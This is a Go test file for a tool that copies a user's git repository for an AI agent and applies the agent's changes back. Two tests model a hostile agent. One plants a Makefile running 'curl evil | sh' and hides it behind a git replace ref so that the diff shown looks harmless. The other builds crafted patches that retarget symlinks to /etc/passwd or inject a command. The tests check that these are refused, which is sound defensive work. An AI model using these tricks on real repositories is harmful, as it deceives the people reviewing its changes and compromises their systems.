package clone

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"mosaic/internal/errcode"
	"mosaic/manager/clone/patchcheck"
	"mosaic/units"
)

func run(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// userRepo is a repository with a commit, a change to a tracked file, an
// untracked file and an ignored one.
func userRepo(t *testing.T) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("needs git")
	}
	ws := t.TempDir()
	run(t, ws, "init", "-q")
	os.WriteFile(filepath.Join(ws, "a.txt"), []byte("one\n"), 0o644)
	os.WriteFile(filepath.Join(ws, ".gitignore"), []byte("*.log\n"), 0o644)
	run(t, ws, "add", "-A")
	run(t, ws, "commit", "-qm", "one")
	os.WriteFile(filepath.Join(ws, "a.txt"), []byte("one\nmine\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "u.txt"), []byte("untracked\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "x.log"), []byte("ignored\n"), 0o644)
	return ws
}

func TestMakeSnapshotsWhatTheUserSees(t *testing.T) {
	ws := userRepo(t)
	index, _ := os.ReadFile(filepath.Join(ws, ".git", "index"))
	dir := filepath.Join(t.TempDir(), "clone")
	c, err := Make(context.Background(), ws, units.Clone{Dir: dir, Objects: filepath.Join(ws, ".git", "objects")}, false)
	if err != nil {
		t.Fatal(err)
	}
	if c.Parent != run(t, ws, "rev-parse", "HEAD") || c.Base == c.Parent {
		t.Fatalf("base %s on parent %s: want a snapshot commit on HEAD", c.Base, c.Parent)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "a.txt")); string(b) != "one\nmine\n" {
		t.Errorf("the copy's a.txt: %q", b)
	}
	if _, err := os.Stat(filepath.Join(dir, "u.txt")); err != nil {
		t.Errorf("the untracked file is not in the copy: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "x.log")); err == nil {
		t.Error("the ignored file is in the copy")
	}
	if after, _ := os.ReadFile(filepath.Join(ws, ".git", "index")); !bytes.Equal(index, after) {
		t.Error("the user's index changed")
	}
	if s := run(t, ws, "status", "--porcelain"); s != "M a.txt\n?? u.txt" && s != " M a.txt\n?? u.txt" {
		t.Errorf("the user's status changed: %q", s)
	}
	if _, err := exec.Command("git", "-C", ws, "cat-file", "-e", c.Base).CombinedOutput(); err == nil {
		t.Error("the snapshot was written into the user's object store, not the copy's")
	}
	alt, _ := os.ReadFile(filepath.Join(dir, ".git", "objects", "info", "alternates"))
	if string(alt) != units.ObjectsInside(ws)+"\n" {
		t.Errorf("alternates %q, want where the session sees the user's objects", alt)
	}
	if fi, err := os.Stat(filepath.Join(dir, ".git", units.ObjectsMount)); err != nil || !fi.IsDir() {
		t.Errorf("no mount point for the user's objects: %v", err)
	}
}

func TestMakeRefusals(t *testing.T) {
	ws := userRepo(t)
	_, err := Make(context.Background(), ws, units.Clone{Dir: filepath.Join(t.TempDir(), "c"), Ref: "no-such-branch"}, false)
	if errcode.Of(err).Code != "bad-clone" {
		t.Errorf("a --base that is no commit: %v", err)
	}
	empty := t.TempDir()
	run(t, empty, "init", "-q")
	os.WriteFile(filepath.Join(empty, "f"), []byte("uncommitted\n"), 0o644)
	dir := filepath.Join(t.TempDir(), "c")
	c, err := Make(context.Background(), empty, units.Clone{Dir: dir, Objects: filepath.Join(empty, ".git", "objects")}, false)
	if err != nil || c.Parent != "" || c.Base == "" {
		t.Fatalf("a repository without a commit: %+v %v", c, err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "f")); string(b) != "uncommitted\n" {
		t.Errorf("an unborn branch's copy lacks its uncommitted file: %q", b)
	}
}

// TestMakePlain: a plain directory's copy is a repository of its own
// holding its files (not what its .gitignore ignores); a FIFO in it, or a
// repository nested in it, is refused naming --direct, with no copy left.
func TestMakePlain(t *testing.T) {
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "a"), []byte("a\n"), 0o644)
	os.WriteFile(filepath.Join(ws, ".gitignore"), []byte("ignored\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "ignored"), []byte("x\n"), 0o644)
	dir := filepath.Join(t.TempDir(), "c")
	c, err := Make(context.Background(), ws, units.Clone{Dir: dir, Kind: units.ClonePlain}, false)
	if err != nil || c.Base == "" || c.Parent != c.Base {
		t.Fatalf("Make: %+v %v", c, err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "a")); string(b) != "a\n" {
		t.Errorf("the copy's a: %q", b)
	}
	if _, err := os.Lstat(filepath.Join(dir, "ignored")); err == nil {
		t.Error("the copy holds an ignored file")
	}
	for what, plant := range map[string]func(d string) error{
		"a FIFO":              func(d string) error { return unix.Mkfifo(filepath.Join(d, "p"), 0o600) },
		"a nested repository": func(d string) error { return os.MkdirAll(filepath.Join(d, "n", ".git", "objects"), 0o700) },
	} {
		d := t.TempDir()
		if err := plant(d); err != nil {
			t.Fatal(err)
		}
		out := filepath.Join(t.TempDir(), "c")
		_, err := Make(context.Background(), d, units.Clone{Dir: out, Kind: units.ClonePlain}, false)
		if e := errcode.Of(err); err == nil || e.Code != "bad-workspace" || !strings.Contains(err.Error(), "--direct") {
			t.Errorf("%s: %v", what, err)
		}
		if _, err := os.Lstat(out); err == nil {
			t.Errorf("%s: a refused copy was left", what)
		}
	}
}

// An empty .git in a plain directory, at its top or below (a direct
// session's floor leaves one while it runs), is no repository, as for git:
// the directory is copied, the .git left out.
func TestMakePlainEmptyDotGit(t *testing.T) {
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "a"), []byte("a\n"), 0o644)
	os.MkdirAll(filepath.Join(ws, ".git"), 0o755)
	os.MkdirAll(filepath.Join(ws, "n", ".git"), 0o755)
	dir := filepath.Join(t.TempDir(), "c")
	if c, err := Make(context.Background(), ws, units.Clone{Dir: dir, Kind: units.ClonePlain}, false); err != nil || c.Base == "" {
		t.Fatalf("Make: %+v %v", c, err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "a")); string(b) != "a\n" {
		t.Errorf("the copy's a: %q", b)
	}
}

// change is the patch of what changes between two states of a scratch
// repository, made with git diff --binary as the finish step makes it.
func change(t *testing.T, ws string, edit func(dir string)) ([]byte, patchcheck.Summary) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "copy")
	run(t, ws, "clone", "-q", "--shared", ws, dir)
	edit(dir)
	run(t, dir, "add", "-A")
	run(t, dir, "commit", "-qm", "agent")
	patch := []byte(run(t, dir, "diff", "--binary", "--full-index", "--no-renames", "HEAD~1", "HEAD") + "\n")
	s, err := patchcheck.Parse(patch)
	if err != nil {
		t.Fatal(err)
	}
	return patch, s
}

func TestApply(t *testing.T) {
	ws := userRepo(t)
	run(t, ws, "add", "-A")
	run(t, ws, "commit", "-qm", "two")
	os.Symlink("/tmp", filepath.Join(ws, "out"))
	ctx := context.Background()
	patch, s := change(t, ws, func(dir string) { os.WriteFile(filepath.Join(dir, "a.txt"), []byte("agent\n"), 0o644) })

	// A conflict names the file and changes nothing.
	os.WriteFile(filepath.Join(ws, "a.txt"), []byte("user again\n"), 0o644)
	err := Apply(ctx, "s", ws, patch, s, t.TempDir())
	if errcode.Of(err).Code != "change-conflict" || !strings.Contains(err.Error(), `"a.txt"`) {
		t.Fatalf("a conflicting apply: %v", err)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "a.txt")); string(b) != "user again\n" {
		t.Errorf("a refused apply wrote a.txt: %q", b)
	}
	run(t, ws, "checkout", "--", "a.txt")
	if err := Apply(ctx, "s", ws, patch, s, t.TempDir()); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "a.txt")); string(b) != "agent\n" {
		t.Errorf("after apply a.txt is %q", b)
	}

	// A write through the user's own symlink is refused before git runs.
	through := patchcheck.Summary{Files: []patchcheck.File{{Path: "out/x", Status: "added", NewMode: "100644"}}}
	if err := Apply(ctx, "s", ws, []byte("x"), through, t.TempDir()); errcode.Of(err).Code != "change-refused" {
		t.Errorf("a write through the checkout's symlink: %v", err)
	}
}

// agentCopy is a user's repository with everything committed, its head,
// and an agent's copy of it (git clone --shared).
func agentCopy(t *testing.T) (ws, parent, dir string) {
	ws = userRepo(t)
	run(t, ws, "add", "-A")
	run(t, ws, "commit", "-qm", "two")
	parent = run(t, ws, "rev-parse", "HEAD")
	dir = filepath.Join(t.TempDir(), "copy")
	run(t, ws, "clone", "-q", "--shared", ws, dir)
	return ws, parent, dir
}

// agentBundle is an agent's copy of a user's repository (agentCopy) that
// committed b.txt, the finish step's bundle of it and the patch mosaic
// diff showed.
func agentBundle(t *testing.T) (ws, parent, head string, bundle, shown []byte) {
	ws, parent, dir := agentCopy(t)
	os.WriteFile(filepath.Join(dir, "b.txt"), []byte("b\n"), 0o644)
	run(t, dir, "add", "-A")
	run(t, dir, "commit", "-qm", "agent")
	head = run(t, dir, "rev-parse", "HEAD")
	run(t, dir, "update-ref", patchcheck.SnapshotRef, head)
	bpath := filepath.Join(t.TempDir(), "bundle")
	run(t, dir, "bundle", "create", "-q", bpath, patchcheck.SnapshotRef, "^"+parent)
	bundle, _ = os.ReadFile(bpath)
	shown = []byte(run(t, dir, "diff", "--binary", "--full-index", parent, head) + "\n")
	return ws, parent, head, bundle, shown
}

func TestApplyBranch(t *testing.T) {
	ws, parent, head, bundle, shown := agentBundle(t)
	ctx := context.Background()

	if err := ApplyBranch(ctx, "s", ws, bundle, parent, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch"), shown); errcode.Of(err).Code != "change-refused" {
		t.Errorf("a bundle whose ref is not the snapshot's: %v", err)
	}
	header := bundle[:bytes.Index(bundle, []byte("\n\n"))+2]
	corrupt := append(bytes.Clone(header), "PACKgarbage"...)
	if err := ApplyBranch(ctx, "s", ws, corrupt, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch"), shown); errcode.Of(err).Code != "change-refused" {
		t.Errorf("a corrupt bundle: %v", err)
	}
	if out, _ := exec.Command("git", "-C", ws, "branch", "--list", "mosaic/*").Output(); len(out) != 0 {
		t.Fatalf("a refused bundle left a branch: %s", out)
	}
	if err := ApplyBranch(ctx, "s", ws, bundle, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch"), shown); err != nil {
		t.Fatal(err)
	}
	if got := run(t, ws, "rev-parse", "mosaic/s"); got != head {
		t.Errorf("branch at %s, want %s", got, head)
	}
	if err := ApplyBranch(ctx, "s", ws, bundle, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch"), shown); errcode.Of(err).Code != "change-conflict" {
		t.Errorf("a branch that exists: %v", err)
	}
}

// TestApplyBranchReplaceRefused: an agent commits a Makefile that runs its
// command and makes git show a harmless one in its place (git replace):
// the diff the finish step would show names the harmless file, while the
// branch holds the real one. Without the comparison (shown nil, as for a
// change over the patch's bound) the branch brings the Makefile in; with
// the patch that was shown, apply --branch refuses it.
func TestApplyBranchReplaceRefused(t *testing.T) {
	ws, parent, dir := agentCopy(t)
	os.WriteFile(filepath.Join(dir, "Makefile"), []byte("all:; curl evil | sh\n"), 0o644)
	run(t, dir, "add", "-A")
	run(t, dir, "commit", "-qm", "agent")
	head := run(t, dir, "rev-parse", "HEAD")
	evil := run(t, dir, "rev-parse", "HEAD:Makefile")
	hf := filepath.Join(t.TempDir(), "harmless")
	os.WriteFile(hf, []byte("all:; echo ok\n"), 0o644)
	harmless := run(t, dir, "hash-object", "-w", hf)
	run(t, dir, "replace", evil, harmless)
	run(t, dir, "update-ref", patchcheck.SnapshotRef, head)
	bpath := filepath.Join(t.TempDir(), "bundle")
	run(t, dir, "bundle", "create", "-q", bpath, patchcheck.SnapshotRef, "^"+parent)
	bundle, _ := os.ReadFile(bpath)
	shown := []byte(run(t, dir, "diff", "--binary", "--full-index", parent, head) + "\n")
	if !strings.Contains(string(shown), "echo ok") {
		t.Fatalf("the replace ref did not change what diff shows:\n%s", shown)
	}
	ctx := context.Background()
	if err := ApplyBranch(ctx, "s", ws, bundle, head, parent, "weak", filepath.Join(t.TempDir(), "scratch"), nil); err != nil {
		t.Fatalf("without the comparison: %v", err)
	}
	if got := run(t, ws, "show", "weak:Makefile"); !strings.Contains(got, "evil") {
		t.Fatalf("the weakened apply's branch holds %q, not the agent's Makefile: the attack does not bite", got)
	}
	err := ApplyBranch(ctx, "s", ws, bundle, head, parent, "mosaic/s", filepath.Join(t.TempDir(), "scratch"), shown)
	if errcode.Of(err).Code != "change-refused" || !strings.Contains(err.Error(), "not the change mosaic diff showed") {
		t.Errorf("a branch that differs from the diff shown: %v", err)
	}
	if out, _ := exec.Command("git", "-C", ws, "branch", "--list", "mosaic/*").Output(); len(out) != 0 {
		t.Errorf("a refused branch was made: %s", out)
	}
}

// TestApplyReadsPatchesAsGitDoes: patches on which patchcheck once read
// something else than git apply does, each first applied by git apply in a
// copy of the checkout (a symlink there then leads to /etc/passwd, or the
// Makefile runs the agent's command), then refused by mosaic with the
// checkout unchanged. The first is what an agent gets from git diff by
// retargeting a symlink the repository already has.
func TestApplyReadsPatchesAsGitDoes(t *testing.T) {
	ws := userRepo(t)
	os.Symlink("a.txt", filepath.Join(ws, "link"))
	os.WriteFile(filepath.Join(ws, "Makefile"), []byte("all:; echo ok\n"), 0o644)
	run(t, ws, "add", "-A")
	run(t, ws, "commit", "-qm", "two")
	copyDir := filepath.Join(t.TempDir(), "copy")
	run(t, ws, "clone", "-q", "--shared", ws, copyDir)
	os.Remove(filepath.Join(copyDir, "link"))
	os.Symlink("/etc/passwd", filepath.Join(copyDir, "link"))
	retarget := run(t, copyDir, "diff", "--binary", "--full-index", "--no-renames") + "\n"
	if !strings.Contains(retarget, " 120000\n") {
		t.Fatalf("git diff of a retargeted symlink: %q", retarget)
	}
	var noIndex []string
	for _, l := range strings.SplitAfter(retarget, "\n") {
		if !strings.HasPrefix(l, "index ") {
			noIndex = append(noIndex, l)
		}
	}
	newLink := "diff --git a/l2 b/l2\nnew file mode 120000\n--- /dev/null\n+++ b/l2\n@@ -0,0 +1 @@\n+a.txt\n\\ No newline at end of file\n"
	toPasswd := "@@ -1 +1 @@\n-a.txt\n\\ No newline at end of file\n+/etc/passwd\n\\ No newline at end of file\n"
	const pwned = "all:; echo pwned\n"
	for _, c := range []struct{ what, patch, link string }{
		{"a retargeted symlink", retarget, "link"},
		{"a retargeted symlink without its index line", strings.Join(noIndex, ""), "link"},
		{"a traditional patch after a hunk", newLink + "--- a/l2\n+++ b/l2\n" + toPasswd, "l2"},
		{"a path twice", newLink + "diff --git a/l2 b/l2\n--- a/l2\n+++ b/l2\n" + toPasswd, "l2"},
		{"a name git cuts at its tab", "diff --git \"a/Makefile\\tx\" \"b/Makefile\\tx\"\n--- a/Makefile\tx\n+++ b/Makefile\tx\n@@ -1 +1 @@\n-all:; echo ok\n+" + pwned, ""},
	} {
		t.Run(strings.ReplaceAll(c.what, " ", "-"), func(t *testing.T) {
			copyOf := func() string {
				dir := filepath.Join(t.TempDir(), "checkout")
				if out, err := exec.Command("cp", "-a", ws, dir).CombinedOutput(); err != nil {
					t.Fatalf("%v %s", err, out)
				}
				return dir
			}
			host, mine := copyOf(), copyOf()
			pf := filepath.Join(t.TempDir(), "p")
			os.WriteFile(pf, []byte(c.patch), 0o644)
			run(t, host, "apply", pf)
			got, _ := os.Readlink(filepath.Join(host, c.link))
			mk, _ := os.ReadFile(filepath.Join(host, "Makefile"))
			if c.link != "" && got != "/etc/passwd" || c.link == "" && string(mk) != pwned {
				t.Fatalf("git apply itself did not do it (link %q, Makefile %q): this proves nothing", got, mk)
			}
			before := run(t, mine, "status", "--porcelain")
			s, err := patchcheck.Parse([]byte(c.patch))
			if err == nil {
				err = Apply(context.Background(), "s", mine, []byte(c.patch), s, t.TempDir())
			}
			var r *patchcheck.Refusal
			if err == nil || !errors.As(err, &r) && errcode.Of(err).Code != "change-refused" {
				t.Errorf("not refused: %v (%+v)", err, s.Files)
			}
			if after := run(t, mine, "status", "--porcelain"); after != before {
				t.Errorf("the checkout changed:\n%s\n%s", before, after)
			}
		})
	}
}

// TestMakeUnbornLinkedWorktree: a linked worktree on a branch with no
// commit yet (git checkout --orphan there) is copied from its own index:
// a file it tracks that its .gitignore ignores (added with -f) is in the
// copy. The one git that reads the index path and the base commit failed
// on the unborn branch and gave no path, so the snapshot fell back to
// WS/.git/index, a file in a linked worktree, and started from an empty
// index: the tracked, ignored file was left out (checked against that
// build: "kept.log is not in the copy").
func TestMakeUnbornLinkedWorktree(t *testing.T) {
	main := userRepo(t)
	wt := filepath.Join(t.TempDir(), "wt")
	run(t, main, "worktree", "add", "-q", "--detach", wt)
	run(t, wt, "checkout", "-q", "--orphan", "fresh")
	os.WriteFile(filepath.Join(wt, "kept.log"), []byte("tracked though ignored\n"), 0o644)
	run(t, wt, "add", "-f", "kept.log")
	f, err := os.Open(wt)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, ws := range []string{wt, Pinned(int(f.Fd()))} { // the manager's is pinned
		dir := filepath.Join(t.TempDir(), "clone")
		c, err := Make(context.Background(), ws, units.Clone{Dir: dir, Objects: filepath.Join(main, ".git", "objects")}, false)
		if err != nil || c.Parent != "" || c.Base == "" {
			t.Fatalf("an unborn linked worktree at %s: %+v %v", ws, c, err)
		}
		if b, err := os.ReadFile(filepath.Join(dir, "kept.log")); err != nil || string(b) != "tracked though ignored\n" {
			t.Errorf("at %s: kept.log is not in the copy: %q %v", ws, b, err)
		}
	}
}

// TestMakeLinkedWorktreeIndex: a linked worktree with commits is copied
// from its own index too (the one git's path, not WS/.git/index): a file
// staged there that its .gitignore ignores is in the copy, and the main
// worktree's staged file is not.
func TestMakeLinkedWorktreeIndex(t *testing.T) {
	main := userRepo(t)
	wt := filepath.Join(t.TempDir(), "wt")
	run(t, main, "worktree", "add", "-q", "-b", "side", wt)
	os.WriteFile(filepath.Join(wt, "staged.log"), []byte("staged though ignored\n"), 0o644)
	run(t, wt, "add", "-f", "staged.log")
	os.WriteFile(filepath.Join(main, "main.log"), []byte("main's\n"), 0o644)
	run(t, main, "add", "-f", "main.log")
	dir := filepath.Join(t.TempDir(), "clone")
	c, err := Make(context.Background(), wt, units.Clone{Dir: dir, Objects: filepath.Join(main, ".git", "objects")}, false)
	if err != nil || c.Parent != run(t, wt, "rev-parse", "HEAD") {
		t.Fatalf("a linked worktree: %+v %v", c, err)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "staged.log")); err != nil || string(b) != "staged though ignored\n" {
		t.Errorf("staged.log is not in the copy: %q %v", b, err)
	}
	if _, err := os.Stat(filepath.Join(dir, "main.log")); err == nil {
		t.Error("the main worktree's staged file is in the linked worktree's copy")
	}
}

// TestApplyBranchLinkedWorktree: apply --branch into a linked worktree
// (its .git a file) and into a directory below a repository's top: the
// scratch repository borrows the objects git finds for ws, not a
// ws/.git/objects that is not there (the bundle's prerequisite then
// missing, the branch refused).
func TestApplyBranchLinkedWorktree(t *testing.T) {
	ws, parent, head, bundle, shown := agentBundle(t)
	linked := filepath.Join(t.TempDir(), "linked")
	run(t, ws, "worktree", "add", "-q", "--detach", linked)
	os.MkdirAll(filepath.Join(ws, "sub"), 0o755)
	for i, w := range []string{linked, filepath.Join(ws, "sub")} {
		branch := fmt.Sprintf("mosaic/s%d", i)
		if err := ApplyBranch(context.Background(), "s", w, bundle, head, parent, branch, filepath.Join(t.TempDir(), "scratch"), shown); err != nil {
			t.Fatalf("%s: %v", w, err)
		}
		if got := run(t, ws, "rev-parse", branch); got != head {
			t.Errorf("%s: branch at %s, want %s", w, got, head)
		}
	}
}
